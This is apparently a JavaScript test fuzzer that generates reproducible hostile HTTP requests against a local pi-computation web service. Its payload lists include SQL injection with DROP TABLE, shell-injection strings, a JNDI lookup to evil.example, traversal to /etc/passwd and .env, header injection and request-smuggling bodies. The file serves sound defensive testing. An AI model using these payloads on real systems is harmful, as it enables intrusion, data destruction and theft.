// Hostile requests, made from the lists below: what is said, how it is encoded, where
// it is put, and requests that are broken as such. The same number always gives the
// same requests, so that one that did harm can be sent again.

/** In answers these must be escaped, or not be there at all. */
export const traces = {
  html: /<x5s|["']\s*x5s=|<svg[^>]*x5s|(?:href|src|action|url)=["']?javascript:x5s/i,
  header: /^x-injected$|^x5s/i,
};

// What is said. Each has a meaning to something that might stand behind a web page.
const payloads = [
  // markup and templates
  '<x5s>', '"><x5s y="', "'><x5s>", '" x5s="1', "' x5s='1", '</textarea><x5s>', '</title><x5s>',
  '<!--<x5s>-->',
  '<svg onload=x5s>', '<svg/onload=x5s>', 'javascript:x5s', 'data:text/html,<x5s>',
  '&lt;x5s&gt;<x5s>', '\u00ab<x5s>\u00bb',
  '+ADw-x5s+AD4-', '<x5s\n>', '<\u0000x5s>', ']]><x5s>', '{{X5S}}', '{{CSRF}}', '{{>HEAD}}',
  '{{%AUTOESCAPE context="JS"}}',
  '{{#ROW}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '[[Position]]', '{%x5s%}', '@STATIC:x5s@',
  // SQL
  "' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE computation;--", '1; DELETE FROM computation',
  "1 UNION SELECT * FROM asker",
  "\\'; --", '1/**/OR/**/1', "x' AND randomblob(1000000000)--", '%27%20OR%201=1', '1) OR (1=1',
  '`id`', '"id"',
  // shells, formats, logs
  '; id', '| id', '`id`', '$(id)', '& ping x', '%s%s%s%n', '%n%n%n%n', '%x'.repeat(20), '{0}', '%%',
  '\\', '\\\\', '\\u0000',
  '\u001b[2J\u001b[31m', '\u0007', '"} {"x5s":"', 'x\tid=1', '${jndi:ldap://evil.example/x}',
  // lines of HTTP
  '\r\nX-Injected: 1', '\r\n\r\n<x5s>', '\nX-Injected: 1', '\rX-Injected: 1', '\u0085X-Injected: 1',
  '\u2028X-Injected: 1',
  '\r\nSet-Cookie: x5s=1', '\r\nLocation: http://evil.example/', '\u560a\u560dX-Injected:1',
  '\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n',
  // paths
  '../', '../../../../etc/passwd', '..\\..\\', '....//....//', '..;/', '.;/..', '/..', './', '//',
  '///', '/./', '.', '..', '...',
  '.git/config', '.htpasswd', '.env', '~root', 'con', 'nul', 'C:\\', 'file:///etc/passwd',
  '/etc/passwd', '/proc/self/environ',
  'nthpi.db', '../db/nthpi.db', '../key', '../../key', 'pi-10-100.txt', 'index.php', 'wp-login.php',
  'static..//key', 'a/../../key',
  // numbers
  '0', '-0', '-1', '+1', '00', '01', '1.0', '1e1', '1e309', '0x10', '0b1', '0o7', '1_000', '1,5',
  '1 1', 'NaN', 'Infinity', '-Infinity',
  '2147483648', '4294967296', '9007199254740993', '9223372036854775807', '9223372036854775808',
  '18446744073709551615',
  '18446744073709551616', '-9223372036854775809', '9'.repeat(40), '1'.repeat(400), '0'.repeat(200),
  '٣', '１２', '²', '½', 'Ⅷ', '1\u00a0000',
  // characters
  '', ' ', '\t', '\u0000', 'x\u0000y', '\u00ff', '\ufeff', '\ufffe', '\uffff', '\u202e', '\u200b',
  'e\u0301', '\ud83d\ude00', 'ﷺ'.repeat(20),
  'ß', 'İ', 'ı', '﹤x5s﹥', '＜x5s＞', '\u0001\u0002\u001f\u007f', 'x'.repeat(1000), 'x'.repeat(4000),
  '%', '%%%', '&', '&&&&', '=', ';', '#', '?',
  '+', ',', '*', '"', "'", 'null', 'undefined', 'true', '[]', '[object Object]', '__proto__',
  'constructor', 'auto\u0000', 'bbp ', 'DONE',
];

// How it is written where percent-encoding counts. Bytes are latin1 characters.
const utf8 = (text) => Buffer.from(text, 'utf8').toString('latin1');
const percent = (bytes, all) => bytes.replace(all ? /[\s\S]/g : /[^A-Za-z0-9._~-]/g,
  (c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`);
const encodings = [
  (text) => percent(utf8(text)),
  (text) => percent(utf8(text)),
  (text) => percent(utf8(text), true),
  (text) => percent(utf8(text)).toUpperCase(),
  (text) => percent(percent(utf8(text))), // twice
  (text) => percent(Buffer.from(text, 'latin1').toString('latin1')), // not UTF-8
  (text) => text.replace(/[^A-Za-z0-9]/g, (c) => (c.charCodeAt(0) < 64 // overlong
    ? `%c0%${(0x80 + c.charCodeAt(0)).toString(16)}` : percent(utf8(c)))),
  (text) => text.replace(/[^A-Za-z0-9]/g, (c) => `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`),
  (text) => `${percent(utf8(text))}%`,
  (text) => `${percent(utf8(text))}%4`,
  (text) => `${percent(utf8(text))}%zz`,
  (text) => `${percent(utf8(text))}%00`,
  (text) => `${percent(utf8(text))}%ed%a0%80`, // half a surrogate pair
  (text) => `${percent(utf8(text))}%f4%90%80%80`, // beyond Unicode
  (text) => `${percent(utf8(text))}%ff%fe`,
  (text) => utf8(text).replace(/[\x00-\x20\x7f#?]/g, percent), // as it is, where HTTP allows it
];

const paths = [
  '/', '/pi/', '/pi/5', '/computations/', '/computations/1', '/computations/1/',
  '/computations/1/delete', '/static/',
  '/digits/', '/api/v1/', '/api/v1/computations/', '/api/', '/v1/pi', '/updates', '/healthz',
  '/metrics', '/metrics/', '/robots.txt',
  '/nthpi-errors/', '/static/nthpi.', '/favicon.ico'];
const headed = ['/', '/pi/5', '/pi/5.txt', '/updates?since=0', '/api/v1/computations',
  '/static/nthpi.css', '/computations/1/cancel', '/metrics'];
const parameters = [
  'status', 'radix', 'algorithm', 'position', 'after', 'limit', 'highlight', 'since', 'from', 'new',
  'start',
  'numberOfDigits', 'x', '', 'csrf', 'status[]', 'radix.', '__proto__'];
const queried = [
  '/', '/pi/5', '/pi/5.txt', '/updates', '/api/v1/computations', '/v1/pi', '/computations/1',
  '/healthz', '/api/v1/computations/1',
];
const headers = [
  'Accept', 'Accept-Encoding', 'Accept-Language', 'Authorization', 'Cache-Control', 'Connection',
  'Content-Type', 'Cookie',
  'Expect', 'Forwarded', 'From', 'Host', 'If-Match', 'If-Modified-Since', 'If-None-Match',
  'If-Range', 'If-Unmodified-Since', 'Origin',
  'Prefer', 'Proxy', 'Range', 'Referer', 'Remote-User', 'Sec-Fetch-Site', 'TE', 'Trailer',
  'Upgrade', 'User-Agent', 'Via',
  'X-Accel-Redirect', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto',
  'X-HTTP-Method-Override', 'X-Original-URL',
  'X-Real-IP', 'X-Rewrite-URL', 'X-Sendfile'];
const framed = {
  Authorization: (v) => [`Bearer ${v}`, `Basic ${v}`, `bearer\t${v}`, `Digest ${v}`],
  Cookie: (v) => [`nthpi_owner=${v}`, `nthpi_owner="${v}"; nthpi_owner=x`, `${v}=${v}`, `$Version=1; nthpi_owner=${v}`],
  Range: (v) => [`bytes=${v}`, `bytes=0-${v}`, `bytes=${v}-`, `bytes=${'0-,'.repeat(300)}${v}`],
  Prefer: (v) => [`wait=${v}`, `wait="${v}"`, `respond-async, wait=${v}`],
  'If-None-Match': (v) => [`"${v}"`, `W/"${v}"`, `"${v}", *`],
  'If-Modified-Since': (v) => [`Sun, 06 Nov 1994 ${v}`],
  Accept: (v) => [`application/json;q=${v}`, `${v}/${v}`],
  'Accept-Language': (v) => [`ru;q=${v}`],
  Host: (v) => [`127.0.0.1:${v}`, `${v}.127.0.0.1`, `user@${v}`, `evil.example${v}`],
};
const methods = [
  'get', 'GETS', 'GET\u00a0', 'PUT', 'PATCH', 'OPTIONS', 'TRACE', 'TRACK', 'CONNECT', 'PROPFIND',
  'MKCOL', 'MOVE', 'LOCK', 'DEBUG',
  'PURGE', 'BREW', 'X'.repeat(300), 'G-T', '<x5s>', "GET'", 'POST', 'DELETE', 'HEAD'];
const json = [
  '', '{', '[', '{}', '[]', 'null', '"x"', '1', '{"position":', '{"position":1,}', "{'position':1}",
  '{"position":1}{"position":2}',
  '{"position":1,"position":0}', '{"position":1e400}', '{"position":-1}', '{"position":0}',
  '{"position":1.5}', '{"position":"1"}',
  '{"position":[1]}', '{"position":{"a":1}}', '{"position":true}',
  '{"position":99999999999999999999}', '{"position":1,"radix":"16"}',
  '{"position":1,"radix":1e1}', '{"position":5,"algorithm":"\\u0000"}',
  '{"position":5,"algorithm":"\\ud800"}', '{"\\u0000":1}',
  '{"__proto__":{"position":1}}', '\ufeff{"position":0}', '[['.repeat(2000), '{"a":'.repeat(2500),
  `{"position":${'9'.repeat(5000)}}`,
  '{"position":1,"x5s":"<x5s>"}', '{"position":1,"\\"><x5s>":1}', '\u0000', '{"position":1/**/}',
  'NaN', '{"position":0x10}', '{"position":01}', ' '.repeat(17000),
  `{"position":${' '.repeat(70_000)}0}`,
];
const types = [
  'application/x-www-form-urlencoded', 'application/json', 'text/plain',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded; charset=utf-16', 'application/json, text/html',
  'application/xml', '', 'a/b;x="\\"',
  'APPLICATION/JSON', 'application/x-www-form-urlencoded\u000b', 'text/html<x5s>'];

/** Numbers below N, the same ones for the same SEED (mulberry32: xorshift and multiply). */
export function dice(seed) {
  let a = seed >>> 0;
  return (n) => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) % n;
  };
}

// A header's value: no line may end in it, and NUL is for the broken ones.
const value = (text) => utf8(text).replace(/[\r\n\0]/g, '');

const message = (first, lines, body = '') => `${[first, ...lines].join('\r\n')}\r\n\r\n${body}`;

const host = 'Host: 127.0.0.1';
const asForm = `Content-Type: ${types[0]}`;
const wantsJson = 'Accept: application/json';

function request(method, target, lines = [], body = '') {
  const all = lines.some((line) => /^host:/i.test(line)) ? [...lines] : [host, ...lines];
  if (body !== '' || method === 'POST') all.push(`Content-Length: ${body.length}`);
  return message(`${method} ${target} HTTP/1.1`, all, body);
}

// Whole requests of one kind each. PICK(N) is a number below N, ANY() one of a list.
const kinds = {
  path({ pick, any, payload, encode }) {
    const tail = pick(3) ? '' : any(['/cancel', '.txt', '/delete', '?x', '/..', '/']);
    const method = any(['GET', 'GET', 'HEAD', 'POST', 'DELETE']);
    return request(method, `${any(paths)}${encode(payload)}${tail}`);
  },
  query({ pick, any, payload, encode }) {
    const fields = [];
    for (let n = 1 + pick(3); n > 0; n--) fields.push(`${any(parameters)}=${encode(payload)}`);
    if (!pick(6)) fields.push(fields[0]);
    if (!pick(8)) fields.push(`${encode(payload)}=1`);
    if (!pick(20)) fields.push(...Array(40).fill('x=1'));
    const target = `${any(queried)}?${fields.join(pick(9) ? '&' : ';')}`;
    return request('GET', target, pick(3) ? [] : [wantsJson]);
  },
  // {CSRF} stands for a token that is good: what is wrong is something else.
  form({ pick, any, payload, encode }) {
    const good = { position: '7', radix: '10', algorithm: 'auto' };
    const names = Object.keys(good);
    const wrong = any(names);
    const fields = names.map((name) =>
      `${name}=${name === wrong ? `x${encode(payload)}` : good[name]}`);
    if (!pick(5)) fields.push(`${encode(payload)}=${encode(payload)}`);
    if (!pick(6)) fields.push(fields[pick(3)]);
    if (!pick(12)) fields.push(...Array(40).fill('x=1'));
    fields.push(pick(3) ? 'csrf={CSRF}' : `csrf=${encode(payload)}`);
    const target = pick(4) ? '/computations'
      : `/computations/${1 + pick(3)}/${any(['cancel', 'retry', 'delete'])}`;
    return request('POST', target, pick(3) ? [asForm] : [asForm, wantsJson], fields.join('&'));
  },
  json({ pick, any, payload }) {
    const odd = JSON.stringify({ position: 7, algorithm: payload, [payload]: payload });
    const body = utf8(pick(3) ? any(json) : odd);
    const type = pick(4) ? 'application/json' : any(types);
    const target = pick(3) ? '/api/v1/computations' : `/api/v1/computations/${1 + pick(3)}/cancel`;
    return request('POST', target, [`Content-Type: ${value(type)}`], body);
  },
  header({ pick, any, payload }) {
    const name = any(headers);
    const forms = framed[name]?.(value(payload)) ?? [value(payload)];
    const lines = [`${name}: ${pick(5) ? any(forms) : value(payload)}`];
    if (!pick(10)) lines.push(lines[0]);
    if (!pick(60)) lines.push(...Array.from({ length: 200 }, (_, i) => `X-${i}: ${i}`));
    return request(any(['GET', 'GET', 'POST', 'DELETE']), any(headed), lines);
  },
  method({ pick, any, payload, encode }) {
    const target = `${any(paths)}${pick(2) ? encode(payload) : ''}`;
    return request(any(methods), target, pick(2) ? [] : ['Content-Type: text/html']);
  },
  type({ pick, any, payload, encode }) {
    return request('POST', pick(2) ? '/computations' : '/api/v1/computations',
      [`Content-Type: ${value(any(types))}`],
      pick(2) ? `position=${encode(payload)}x` : `--x\r\n${utf8(payload)}`);
  },
};

// Requests that are broken as such, or that two readers might take apart differently.
// A second request stands in what is a body to one of them: nobody may answer it.
const inner = 'GET /smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
const chunked = `0\r\n\r\n${inner}`;
const codings = [
  'chunked', 'Chunked', 'xchunked', 'chunked, identity', 'identity, chunked', 'chunked, chunked',
  ' chunked', '\tchunked',
  '\u000bchunked', 'chunked\u000b', '"chunked"', 'chunked;x=1', ',chunked', 'chunked,', 'cow',
  'identity', '', 'gzip, chunked', 'chun\u0000ked', '\r\n chunked',
];
const codingNames = [
  'Transfer-Encoding', 'transfer-encoding', 'Transfer-Encoding ', 'Transfer_Encoding',
  ' Transfer-Encoding', 'X\r\nTransfer-Encoding',
  'Transfer-\u0000Encoding', 'TRANSFER-ENCODING'];
const lengths = [
  '+{n}', '-1', '0x{n}', '{n},{n}', '{n} {n}', '{n}\r\nContent-Length: 0',
  '0\r\nContent-Length: {n}', '{n}.0', '"{n}"', '99999999999999999999',
  '-{n}', '{n}\u0000', '', ' ', 'NaN', '{n}e0', '{n}\r\nContent-Length: {n}', '{n};'];
const chunks = [
  'zz\r\nx\r\n', '-1\r\nx\r\n', 'ffffffffffffffff\r\nx', '10000000000000000\r\nx', '5\r\nab',
  '1\r\nxy\r\n', '1\nx\n', '0x1\r\nx\r\n', ' 1\r\nx\r\n',
  '1 \r\nx\r\n', '1;a="\r\nx\r\n', '\r\n', '1\r\nx0\r\n\r\n', '00000000000000000001\r\nx\r\n',
  '1\r\rx\r\n', '+1\r\nx\r\n',
];
const ends = ['\n', '\r', '\r\r\n', '\n\r', '\u0000\r\n', '\u000b\r\n', ' \r\n'];
const lines = [
  '', ' ', ': x', 'x', 'X y: z', 'X\u0000: y', 'X: \u0000', 'X\u00e9: y', '(x): y', 'X: y\rZ: 1',
  ' folded', '\tX: y', 'X:\r\n y', 'Host: a\r\nHost: b', 'Host:',
  'Host: ', 'Host: a b', 'Host: /', 'Host: a/b', 'Host: [::1', 'Host: a\u0000', 'Host: \u00e9',
  `Host: ${'h'.repeat(5000)}`, 'Content-Length', 'X'.repeat(9000),
  `X: ${'y'.repeat(9000)}`, `${'X: y\r\n'.repeat(3000)}Z: 1`, `Cookie: ${'a=b; '.repeat(1500)}`];
const targets = [
  'http://evil.example/', 'http://127.0.0.1/', 'HTTP://[::1]/', 'http://evil.example:99999/',
  'http:///', 'ftp://evil.example/', '*', '', ' ', 'evil.example:443',
  'x', '\\', '/\u0000', '/ x', '/#x', '/\t', '/\u00e9', '//evil.example/', '/\\evil.example',
  `/${'x'.repeat(9000)}`, `/?${'x'.repeat(9000)}`, '/\u007f', '?', '@evil.example', '/%',
];
const versions = [
  '', ' ', ' HTTP/0.9', ' HTTP/1.0', ' HTTP/1.2', ' HTTP/1.10', ' HTTP/2.0', ' HTTP/9.9', ' HTTP/1',
  ' http/1.1', ' HTTP/-1.1', ' HTTP/1.1 x', ' HTTPS/1.1', ' HTTP/1.1\u0000',
  '  HTTP/1.1', '\tHTTP/1.1', ' HTTP/01.1', ' X'];
const bytes = [
  '\u0000', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'SSH-2.0-x\r\n', '\r\n'.repeat(500),
  'PROXY TCP4 1.2.3.4 1.2.3.4 1 1\r\n',
 
  '\u0001\u0001\u0000\u0001\u0000\u0008\u0000\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000',
  'EHLO x\r\n', 'GET', 'G'.repeat(9000), '{"x":1}\r\n', '\u00ff'.repeat(100),
];
const bodied = [
  '/', '/computations', '/computations/1', '/pi/5', '/pi/5.txt', '/static/nthpi.css', '/robots.txt',
  '/nothing', '/api/v1/computations', '/updates', '/metrics',
];

const bodiedMethods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'PUT', 'POST', 'BREW'];
const asides = ['X: y', 'Expect: 100-continue', 'Content-Type: application/json', 'Upgrade: h2c'];
const coded = 'Transfer-Encoding: chunked';
const post = ({ any }, lines, body, version = '1.1') =>
  message(`POST ${any(bodied)} HTTP/${version}`, [host, ...lines], body);
// What stands in a head cannot smuggle anything: it is the next request.
const pipelined = (text) => utf8(text).replaceAll('/smuggled', '/pipelined');

const broken = [
  // Two lengths of one body.
  (by) => post(by, [`Content-Length: ${chunked.length}`,
    `${by.any(codingNames)}: ${by.any(codings)}`], chunked),
  (by) => post(by, [`Transfer-Encoding: ${by.any(codings)}`,
    `Transfer-Encoding: ${by.any(codings)}`, `Content-Length: ${chunked.length}`], chunked),
  (by) => post(by, [`Content-Length: ${by.any(lengths).replaceAll('{n}', inner.length)}`], inner,
    by.any(['1.0', '1.1'])),
  // A body where none belongs, to all kinds of answers.
  ({ any }) => message(`${any(bodiedMethods)} ${any(bodied)} HTTP/1.1`,
    [host, `Content-Length: ${inner.length}`, any(asides)], inner),
  // Chunks.
  (by) => post(by, [coded], `${'1\r\nx\r\n'.repeat(by.pick(3))}${by.any(chunks)}`),
  (by) => post(by, [coded],
    `${inner.length.toString(16)}\r\n${inner}\r\n0\r\nX-Injected: 1\r\n\r\n`)
    .slice(0, by.pick(2) ? undefined : -by.pick(30)),
  // Lines, heads, addresses, versions.
  ({ any }) => ['GET / HTTP/1.1', host, 'X: y', '', ''].join(any(ends)),
  ({ any }) => message('GET / HTTP/1.1', [host, any(lines), 'X: y']),
  ({ any }) => message('GET / HTTP/1.1', [any(lines)]),
  ({ any }) => message(`GET ${any(targets)} HTTP/1.1`, [host]),
  ({ any }) => message(`GET ${any(bodied)}${any(versions)}`, [host]),
  ({ any }) => message(`${any(methods)}${any([' ', '  ', '\t', ''])}${any(targets)} HTTP/1.1`,
    [host]),
  ({ pick, any }) => any(bytes) + (pick(2) ? '' : message('GET / HTTP/1.1', [host])),
  ({ payload }) => message(`GET /?x=${pipelined(payload)} HTTP/1.1`, [host]),
  ({ payload }) => message('GET / HTTP/1.1',
    [host, `X-${pipelined(payload)}: ${pipelined(payload)}`]),
];

/**
 * COUNT hostile requests: {number, whole, bytes}. One that is not `whole` may be
 * answered or not, and its connection is of no more use.
 */
export function* hostile(count, seed = 1) {
  const pick = dice(seed);
  const any = (list) => list[pick(list.length)];
  const names = Object.keys(kinds);
  for (let number = 0; number < count; number++) {
    const whole = pick(4) > 0;
    const make = whole ? kinds[any(names)] : any(broken);
    const bytes_ = make({ pick, any, payload: any(payloads), encode: any(encodings) });
    yield { number, whole, bytes: bytes_ };
  }
}
